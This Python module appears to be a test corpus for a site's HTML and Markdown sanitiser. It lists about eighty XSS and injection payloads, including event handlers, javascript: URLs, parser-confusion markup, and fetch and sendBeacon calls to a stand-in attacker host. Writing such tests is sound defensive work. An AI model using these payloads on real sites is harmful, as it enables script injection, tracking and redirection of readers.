"""What a hostile story might hold: HTML, each piece with the harm that it does where nothing stands in its way.

``RUN`` in a piece is script that leaves a trace, ``HOST`` an attacker's address of its own.
``data-bam`` marks what a reader is made to click.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from dataclasses import dataclass, replace
from typing import Literal

from browser import STRANGER

Harm = Literal["script", "foreign", "connect", "leave", "frame"]
"""A script ran; another host was asked for something; a connection to it was opened, but nothing
asked for; the reader was led away; the page's frame changed."""

RUN = "void(window.__pwned=(window.__pwned||'')+'NAME,')"
"""Without spaces and double quotes, so that it fits into any place."""
TOGETHER = 9
"""Attacks at most that one story holds: some pages with many show what many pages with one do."""


@dataclass(frozen=True, slots=True)
class Attack:
    """A piece of HTML and the harm it does."""

    name: str
    html: str
    harm: Harm
    sign: str = ""
    """For a changed frame: script that is true where it has changed."""
    left_by_policy: str = ""
    """The words in SECURITY.md that own that the policy does not stop it."""
    connects: bool = False
    """Whether Chromium opens a connection before it asks the policy: no request follows, but the
    attacker's host learns the reader's address."""
    alone: bool = False
    """Whether it spoils what stands after it, so that it needs a story of its own."""

    @property
    def host(self) -> str:
        """The attacker's host for this attack alone."""
        return f"{self.name}.{STRANGER}"


def _script(name: str, html: str, *, alone: bool = False) -> Attack:
    return Attack(name, html, "script", alone=alone)


def _foreign(name: str, html: str, *, alone: bool = False) -> Attack:
    connects = name in {"iframe", "object", "embed"}
    return Attack(name, html, "foreign", connects=connects, alone=alone)


def _leave(name: str, html: str, left_by_policy: str = "") -> Attack:
    connects = name.startswith("form-")
    return Attack(name, html, "leave", "", left_by_policy, connects, alone=True)


def _frame(name: str, html: str, sign: str, left_by_policy: str = "") -> Attack:
    return Attack(name, html, "frame", sign, left_by_policy, alone=True)


_WRITTEN = (
    # Script elements
    _script("script", "<script>RUN</script>"),
    _script("script-case", "<ScRiPt >RUN</sCrIpT >"),
    _script("script-after-end-of-article", "</div></article></main><script>RUN</script>", alone=True),
    _script("script-module", '<script type="module">RUN</script>'),
    _script("script-data", '<script src="data:text/javascript,RUN"></script>'),
    _script("script-string", '<script>setTimeout("RUN")</script>'),
    _script("script-written", "<script>document.write(`<img src=x onerror=RUN>`)</script>", alone=True),
    _script("script-cookie", "<script>document.cookie='pwned=1;path=/';RUN</script>"),
    _script("script-svg", "<svg><script>RUN</script></svg>"),
    _foreign("script-from-host", '<script src="HOST/x.js"></script>'),
    _foreign("script-import", '<script type="module">import "HOST/x.js"</script>'),
    _foreign("script-import-call", '<script>import("HOST/x.js")</script>'),
    _foreign("script-import-map", '<script type="importmap">{"imports": {"x": "HOST/x.js"}}</script><script type="module">import "x"</script>'),
    _foreign("script-fetch", '<script>fetch("HOST/x")</script>'),
    _foreign("script-beacon", '<script>navigator.sendBeacon("HOST/x", document.title)</script>'),
    _foreign("script-xhr", '<script>x = new XMLHttpRequest; x.open("GET", "HOST/x"); x.send()</script>'),
    _foreign("script-event-source", '<script>new EventSource("HOST/x")</script>'),
    Attack("script-web-socket", '<script>new WebSocket("HOST/x".replace("https", "wss"))</script>', "connect"),
    _foreign("script-image", '<script>new Image().src = "HOST/x"</script>'),
    _foreign("worker-blob", """<script>new Worker(URL.createObjectURL(new Blob(['fetch("HOST/x")'])))</script>"""),
    _foreign("worker-data", """<script>new Worker('data:text/javascript,fetch("HOST/x")')</script>"""),
    # Handlers of events
    _script("img-onerror", '<img src="x" onerror="RUN">'),
    _script("svg-onload", '<svg onload="RUN"></svg>'),
    _script("body-onload", '<body onload="RUN">', alone=True),
    _script("details-ontoggle", '<details open ontoggle="RUN">x</details>'),
    _script("input-onfocus", '<input autofocus onfocus="RUN">'),
    _script("video-onerror", '<video><source src="x" onerror="RUN"></video>'),
    _script("audio-onerror", '<audio src="x" onerror="RUN"></audio>'),
    _script("style-onload", '<style onload="RUN">p {}</style>'),
    _script("link-onerror", '<link rel="stylesheet" href="x" onerror="RUN">'),
    _script("object-onerror", '<object data="x" onerror="RUN"></object>'),
    _script("iframe-onload", '<iframe onload="RUN"></iframe>'),
    _script("button-onclick", '<button onclick="RUN" data-bam>x</button>'),
    _script("animation", '<svg><animate onbegin="RUN" attributeName="x" dur="1s"/></svg>'),
    # Markup that parsers read differently
    _script("noscript", '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>', alone=True),
    _script("comment", "<!--><img src=x onerror=RUN>-->", alone=True),
    _script("math-style", "<math><mtext></mtext><style><img src=x onerror=RUN></style></math>", alone=True),
    _script("template-in-svg", "<svg><desc><img src=x onerror=RUN></desc></svg>"),
    # Addresses that run
    _script("link-javascript", '<a href="javascript:RUN" data-bam>x</a>'),
    _script("link-javascript-hidden", '<a href=" java&#9;script&colon;RUN" data-bam>x</a>'),
    _script("link-svg", '<svg><a xlink:href="javascript:RUN" data-bam><text y="20">x</text></a></svg>'),
    _script("area-javascript", '<map name="m"><area href="javascript:RUN" data-bam></map>'),
    _script("form-javascript", '<form action="javascript:RUN"><button data-bam>x</button></form>'),
    _script("button-formaction", '<form><button formaction="javascript:RUN" data-bam>x</button></form>'),
    _script("iframe-javascript", '<iframe src="javascript:PARENT"></iframe>'),
    _script("iframe-srcdoc", '<iframe srcdoc="<script>PARENT</script>"></iframe>'),
    # Frames and plug-ins
    _foreign("iframe", '<iframe src="HOST/"></iframe>'),
    _foreign("iframe-data", '<iframe src="data:text/html,<img src=HOST/x>"></iframe>'),
    _foreign("iframe-srcdoc-image", '<iframe srcdoc="<img src=HOST/x>"></iframe>'),
    _foreign("object", '<object data="HOST/x"></object>'),
    _foreign("object-data", '<object type="text/html" data="data:text/html,<img src=HOST/x>"></object>'),
    _foreign("embed", '<embed src="HOST/x">'),
    # What is loaded by itself
    _foreign("img", '<img src="HOST/x">'),
    _foreign("img-srcset", '<img srcset="HOST/x 1x">'),
    _foreign("picture", '<picture><source srcset="HOST/x"><img alt="x"></picture>'),
    _foreign("input-image", '<input type="image" src="HOST/x">'),
    _foreign("video-poster", '<video poster="HOST/x"></video>'),
    _foreign("video", '<video src="HOST/x" preload="auto"></video>'),
    _foreign("audio", '<audio src="HOST/x" preload="auto"></audio>'),
    _foreign("track", '<video src="x" crossorigin><track default src="HOST/x"></video>'),
    _foreign("svg-image", '<svg><image href="HOST/x" width="9" height="9"/></svg>'),
    _foreign("table-background", '<table background="HOST/x"><tr><td>x</table>'),
    # Styles
    _foreign("style-attribute", '<p style="background: url(HOST/x)">x</p>'),
    _foreign("style-import", '<style>@import "HOST/x.css";</style>'),
    _foreign("style-background", "<style>.site-header { background: url(HOST/x) }</style>"),
    _foreign("style-font", "<style>@font-face { font-family: f; src: url(HOST/x) } * { font-family: f !important }</style>"),
    _foreign("link-stylesheet", '<link rel="stylesheet" href="HOST/x.css">'),
    _foreign("link-stylesheet-data", '<link rel="stylesheet" href="data:text/css,body{background:url(HOST/x)}">'),
    _frame("style-hides-page", "<style>.site-footer { display: none }</style>", "getComputedStyle(document.querySelector('.site-footer')).display === 'none'"),
    _frame("style-covers-page", '<p id="x" style="position: fixed; inset: 0">x</p>', "getComputedStyle(document.querySelector('#x') ?? document.body).position === 'fixed'"),
    # Other links that speak to hosts
    _foreign("link-preload", '<link rel="preload" as="image" href="HOST/x">'),
    _foreign("link-module-preload", '<link rel="modulepreload" href="HOST/x.js">'),
    _foreign("link-prefetch", '<link rel="prefetch" href="HOST/x">'),
    _foreign("link-ping", '<a href="#x" ping="HOST/x" data-bam>x</a>'),
    # Leading the reader away
    _leave("form-post", '<form action="HOST/" method="post"><button data-bam>x</button></form>'),
    _leave("form-get", '<form action="HOST/"><button data-bam>x</button></form>'),
    _leave("form-of-other-button", '<form id="f"></form><button form="f" formaction="HOST/" data-bam>x</button>'),
    _leave("refresh", '<meta http-equiv="refresh" content="0; url=HOST/">', "<meta http-equiv=refresh>"),
    _leave("link", '<a href="HOST/" data-bam>x</a>', "a link that leads to a harmful site"),
    _leave("link-like-a-form", '<span class="share"><a href="HOST/" data-bam>Gửi</a></span>', "a link that leads to a harmful site"),
    # Changing what the frame does
    _foreign("base", '<base href="HOST/">', alone=True),
    _frame("share-elsewhere", '<ul class="share" data-url="HOST/"><li><button name="copy" type="button">x</button></li></ul>', "document.querySelector('.share').dataset.url.startsWith('https')", "ids and classes"),
    _frame("frame-id", '<p id="vao-bai">x</p>', "document.querySelectorAll('#vao-bai').length > 1", "ids and classes"),
    _frame("frame-class", '<div class="skip" id="x">x</div>', "getComputedStyle(document.querySelector('#x') ?? document.body).position === 'absolute'", "ids and classes"),
    _frame("plaintext", "<plaintext>", "!document.querySelector('.site-footer')", "unclosed"),
)  # fmt: skip


def _finished(attack: Attack) -> Attack:
    run = RUN.replace("NAME", attack.name)
    html = attack.html.replace("RUN", run).replace("PARENT", run.replace("window", "parent"))
    return replace(attack, html=html.replace("HOST", f"https://{attack.host}"))


def _stories(attacks: Sequence[Attack]) -> Iterator[tuple[Attack, ...]]:
    """Put attacks together that do not get into each other's way."""
    yield from ((attack,) for attack in attacks if attack.alone)
    sociable = [attack for attack in attacks if not attack.alone]
    for start in range(0, len(sociable), TOGETHER):
        yield tuple(sociable[start : start + TOGETHER])


ATTACKS = tuple(map(_finished, _WRITTEN))
STORIES = {story[0].name: story for story in _stories(ATTACKS)}
"""The attacks by story; a story is named for its first."""

MARKDOWN = {
    "link": "[x](javascript:RUN)",
    "link-in-brackets": "[x](<javascript:RUN>)",
    "link-case": "[x](JaVaScRiPt:RUN)",
    "link-entity": "[x](javascript&colon;RUN)",
    "link-data": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "link-vbscript": "[x](vbscript:x)",
    "link-without-scheme": "[x](//ngoai.example/)",
    "link-user": "[x](https://www.gov.vn@ngoai.example/)",
    "link-file": "[x](file:///etc/passwd)",
    "link-blob": "[x](blob:https://ngoai.example/1)",
    "reference": "[x][1]\n\n[1]: javascript:RUN",
    "image": "![x](https://ngoai.example/x.png)",
    "image-data": "![x](data:image/svg+xml,x)",
    "image-reference": "![x][1]\n\n[1]: https://ngoai.example/x.png",
}
"""Attacks in Markdown's own words; each must be refused, or show as the text it is."""
STAYS_TEXT = {"reference", "image-reference"}
"""Those that are no link to begin with."""
